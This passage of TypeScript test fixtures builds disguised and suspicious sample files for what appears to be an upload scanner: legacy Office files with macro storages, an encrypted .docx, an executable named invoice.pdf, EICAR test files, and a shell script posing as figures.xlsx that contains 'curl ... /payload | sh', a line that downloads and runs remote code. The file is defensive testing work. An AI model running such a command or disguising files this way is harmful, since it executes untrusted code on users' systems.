    ordered.forEach((id, index) => (nodes[id]!.right = ordered[index + 1] ?? NO_STREAM));
  }

  // The mini stream and its allocation table.
  const miniFat: number[] = [];
  const miniChunks: Uint8Array[] = [];
  const regularStreams: Node[] = [];
  for (const node of nodes) {
    if (node.type !== 2 || !node.data) continue;
    node.size = node.data.length;
    if (node.data.length === 0) continue;
    if (node.data.length >= MINI_CUTOFF) {
      regularStreams.push(node);
      continue;
    }
    const count = Math.ceil(node.data.length / MINI_SECTOR);
    node.start = miniFat.length;
    for (let index = 0; index < count; index++) miniFat.push(index === count - 1 ? END_OF_CHAIN : miniFat.length + 1);
    const padded = new Uint8Array(count * MINI_SECTOR);
    padded.set(node.data);
    miniChunks.push(padded);
  }
  const miniStream = concatBytes(miniChunks);

  const sectorsFor = (bytes: number) => Math.ceil(bytes / SECTOR);
  const directorySectors = sectorsFor(nodes.length * 128);
  const miniFatSectors = sectorsFor(miniFat.length * 4);
  const miniStreamSectors = sectorsFor(miniStream.length);
  const regularSectors = regularStreams.reduce((sum, node) => sum + sectorsFor(node.size), 0);
  const otherSectors = directorySectors + miniFatSectors + miniStreamSectors + regularSectors;
  const fatSectors = Math.ceil(otherSectors / (SECTOR / 4 - 1));
  if (fatSectors > 109) throw new Error('writeCompoundFile: too large for a file without DIFAT sectors');

  const fat: number[] = Array.from({ length: fatSectors }, () => FAT_SECTOR);
  const allocate = (count: number): number => {
    if (count === 0) return END_OF_CHAIN;
    const first = fat.length;
    for (let index = 0; index < count; index++) fat.push(index === count - 1 ? END_OF_CHAIN : fat.length + 1);
    return first;
  };
  const firstDirectorySector = allocate(directorySectors);
  const firstMiniFatSector = allocate(miniFatSectors);
  nodes[0]!.start = allocate(miniStreamSectors);
  nodes[0]!.size = miniStream.length;
  for (const node of regularStreams) node.start = allocate(sectorsFor(node.size));
  const totalSectors = fat.length;
  while (fat.length < fatSectors * (SECTOR / 4)) fat.push(FREE_SECTOR);

  const file = new Uint8Array(SECTOR * (totalSectors + 1));
  const view = new DataView(file.buffer);
  file.set([0xd0, 0xcf, 0x11, 0xe0, 0xa1, 0xb1, 0x1a, 0xe1]);
  view.setUint16(0x18, 0x003e, true); // minor version
  view.setUint16(0x1a, 3, true); // major version 3: 512-byte sectors
  view.setUint16(0x1c, 0xfffe, true); // little-endian
  view.setUint16(0x1e, 9, true);
  view.setUint16(0x20, 6, true);
  view.setUint32(0x2c, fatSectors, true);
  view.setUint32(0x30, firstDirectorySector, true);
  view.setUint32(0x38, MINI_CUTOFF, true);
  view.setUint32(0x3c, firstMiniFatSector, true);
  view.setUint32(0x40, miniFatSectors, true);
  view.setUint32(0x44, END_OF_CHAIN, true);
  for (let slot = 0; slot < 109; slot++) view.setUint32(0x4c + slot * 4, slot < fatSectors ? slot : FREE_SECTOR, true);

  const sectorOffset = (sector: number) => (sector + 1) * SECTOR;
  fat.forEach((value, index) => view.setUint32(sectorOffset(0) + index * 4, value, true));
  const writeRun = (first: number, data: Uint8Array) => {
    if (first !== END_OF_CHAIN) file.set(data, sectorOffset(first));
  };
  const miniFatBytes = new Uint8Array(miniFatSectors * SECTOR).fill(0xff);
  miniFat.forEach((value, index) => new DataView(miniFatBytes.buffer).setUint32(index * 4, value, true));
  writeRun(firstMiniFatSector, miniFatBytes);
  writeRun(nodes[0]!.start, miniStream);
  for (const node of regularStreams) writeRun(node.start, node.data!);

  const directory = new Uint8Array(directorySectors * SECTOR);
  const directoryView = new DataView(directory.buffer);
  for (let index = 0; index < directorySectors * (SECTOR / 128); index++) {
    const base = index * 128;
    const node = nodes[index];
    if (!node) {
      [0x44, 0x48, 0x4c].forEach((field) => directoryView.setUint32(base + field, NO_STREAM, true));
      continue;
    }
    for (let char = 0; char < node.name.length; char++) directoryView.setUint16(base + char * 2, node.name.charCodeAt(char), true);
    directoryView.setUint16(base + 0x40, (node.name.length + 1) * 2, true);
    directoryView.setUint8(base + 0x42, node.type);
    directoryView.setUint8(base + 0x43, 1); // black
    directoryView.setUint32(base + 0x44, node.left, true);
    directoryView.setUint32(base + 0x48, node.right, true);
    directoryView.setUint32(base + 0x4c, node.child, true);
    directoryView.setUint32(base + 0x74, node.type === 1 ? 0 : node.start, true);
    directoryView.setUint32(base + 0x78, node.type === 1 ? 0 : node.size, true);
  }
  writeRun(firstDirectorySector, directory);
  return file;
}

/**
 * A minimal Word 97-2003 file information block: the magic number, a version,
 * and the flags word whose fEncrypted bit Word sets for a password-protected file.
 */
function wordDocumentStream(text: string, encrypted: boolean): Uint8Array {
  const stream = new Uint8Array(4096);
  const view = new DataView(stream.buffer);
  view.setUint16(0, 0xa5ec, true); // wIdent
  view.setUint16(2, 0x00c1, true); // nFib: Word 97 and later
  view.setUint16(0x0a, encrypted ? 0x0100 : 0, true);
  // Word stores text from 0x800 on, as 8-bit characters in simple files.
  stream.set(latin1Bytes(text).subarray(0, 4096 - 0x800), 0x800);
  return stream;
}

/** Excel 97-2003 globals: BOF, optionally FILEPASS (the workbook is encrypted), a string in a LABEL-like record, EOF. */
function workbookStream(text: string, encrypted: boolean): Uint8Array {
  const records: Uint8Array[] = [];
  const record = (type: number, data: Uint8Array) => {
    const header = new Uint8Array(4);
    new DataView(header.buffer).setUint16(0, type, true);
    new DataView(header.buffer).setUint16(2, data.length, true);
    records.push(header, data);
  };
  record(0x0809, Uint8Array.from([0x00, 0x06, 0x05, 0x00, 0, 0, 0, 0, 0, 0, 0, 0, 0, 0, 0, 0])); // BOF, BIFF8 workbook globals
  if (encrypted) record(0x002f, Uint8Array.from([0x01, 0x00, 0x01, 0x00, 0x02, 0x00])); // FILEPASS, RC4
  const utf16 = new Uint8Array(text.length * 2);
  for (let index = 0; index < text.length; index++) new DataView(utf16.buffer).setUint16(index * 2, text.charCodeAt(index), true);
  record(0x00fc, concatBytes([Uint8Array.from([1, 0, 0, 0, 1, 0, 0, 0, text.length & 0xff, text.length >> 8, 0x01]), utf16])); // SST with one UTF-16 string
  record(0x000a, new Uint8Array(0)); // EOF
  return concatBytes(records);
}

/**
 * A compound file shaped like a Word 97-2003 document: a WordDocument stream
 * with a file information block and `text`. Structurally a .doc (what the
 * scanner looks at); Word itself would not open it (it has no piece table).
 */
export function legacyDoc(text = 'Quality service claim: evidence of delivery.', options: { encrypted?: boolean; macros?: boolean } = {}): EvidenceSample {
  const entries: CompoundEntrySpec[] = [
    { name: 'WordDocument', data: wordDocumentStream(text, options.encrypted ?? false) },
    { name: '1Table', data: new Uint8Array(1024) },
  ];
  if (options.macros) {
    entries.push({ name: 'Macros', children: [{ name: 'VBA', children: [{ name: '_VBA_PROJECT', data: Uint8Array.from([0xcc, 0x61, 0xff, 0xff]) }] }] });
  }
  return { name: options.macros ? 'with-macros.doc' : 'evidence.doc', type: MIME.doc, bytes: writeCompoundFile(entries) };
}

/**
 * A compound file shaped like an Excel 97-2003 workbook: a Workbook stream of
 * BIFF8 records with `text` as a UTF-16 string (small, so it lives in the mini stream).
 */
export function legacyXls(text = 'Appointments April 2026', options: { encrypted?: boolean; macros?: boolean } = {}): EvidenceSample {
  const entries: CompoundEntrySpec[] = [{ name: 'Workbook', data: workbookStream(text, options.encrypted ?? false) }];
  if (options.macros) {
    entries.push({ name: '_VBA_PROJECT_CUR', children: [{ name: 'VBA', children: [{ name: 'dir', data: new Uint8Array(32) }] }] });
  }
  return { name: options.macros ? 'with-macros.xls' : 'evidence.xls', type: MIME.xls, bytes: writeCompoundFile(entries) };
}

/**
 * What Office writes for "Encrypt with password" on a .docx: a compound file
 * holding EncryptionInfo and EncryptedPackage (ciphertext: random bytes here).
 */
export function encryptedDocx(): EvidenceSample {
  const info = concatBytes([
    Uint8Array.from([0x04, 0x00, 0x04, 0x00, 0x40, 0x00, 0x00, 0x00]), // version 4.4 (agile), reserved
    strToU8('<?xml version="1.0" encoding="UTF-8" standalone="yes"?>\r\n<encryption xmlns="http://schemas.microsoft.com/office/2006/encryption"/>'),
  ]);
  const packageSize = new Uint8Array(8);
  new DataView(packageSize.buffer).setUint32(0, 6000, true);
  return {
    name: 'protected.docx',
    type: MIME.docx,
    bytes: writeCompoundFile([
      { name: 'EncryptionInfo', data: info },
      { name: 'EncryptedPackage', data: concatBytes([packageSize, Uint8Array.from(randomBytes(6000))]) },
    ]),
  };
}

// ---------------------------------------------------------------------------
// Files that are not what they claim

/** A Windows program's headers (MZ, then PE) named invoice.pdf. */
export function exeRenamedPdf(): EvidenceSample {
  const bytes = new Uint8Array(1024);
  const view = new DataView(bytes.buffer);
  bytes.set(latin1Bytes('MZ'));
  view.setUint32(0x3c, 0x80, true); // e_lfanew: where the PE header starts
  bytes.set(latin1Bytes('This program cannot be run in DOS mode.\r\r\n$'), 0x4e);
  bytes.set(latin1Bytes('PE\0\0'), 0x80);
  view.setUint16(0x84, 0x14c, true); // machine: i386
  view.setUint16(0x86, 1, true); // one section
  view.setUint16(0x94, 0xe0, true); // optional header size
  view.setUint16(0x96, 0x0102, true); // characteristics: executable, 32-bit
  view.setUint16(0x98, 0x10b, true); // PE32 optional header magic
  return { name: 'invoice.pdf', type: MIME.pdf, bytes };
}

/** A shell script named figures.xlsx. */
export function shellScriptAsXlsx(): EvidenceSample {
  return {
    name: 'figures.xlsx',
    type: MIME.xlsx,
    bytes: strToU8('#!/bin/sh\n# Looks like a spreadsheet, is a script.\ncurl -s https://example.invalid/payload | sh\n'),
  };
}

/**
 * A file carrying the EICAR test signature. `.pdf`: a valid PDF with the
 * signature in an uncompressed stream; `.docx`: a valid Word document with it
 * as a paragraph (compressed inside the zip); any other name: the bare
 * 68-byte signature, like the classic eicar.com.
 */
export function eicarFile(name = 'eicar-test.pdf'): EvidenceSample {
  const signature = eicarSignature();
  const ext = name.slice(name.lastIndexOf('.') + 1).toLowerCase();
  if (ext === 'pdf') {
    const objects = onePage(latin1Bytes(textContent(['Anti-malware test file.'])));
    objects.push({ dictionary: '/Type /EmbeddedFile', stream: latin1Bytes(signature) });
    return { name, type: MIME.pdf, bytes: writePdf(objects) };
  }
  if (ext === 'docx') return { name, type: MIME.docx, bytes: buildDocx({ paragraphs: [['Anti-malware test file.'], [signature]] }) };
  return { name, type: mimeFor(name), bytes: strToU8(signature) };
}

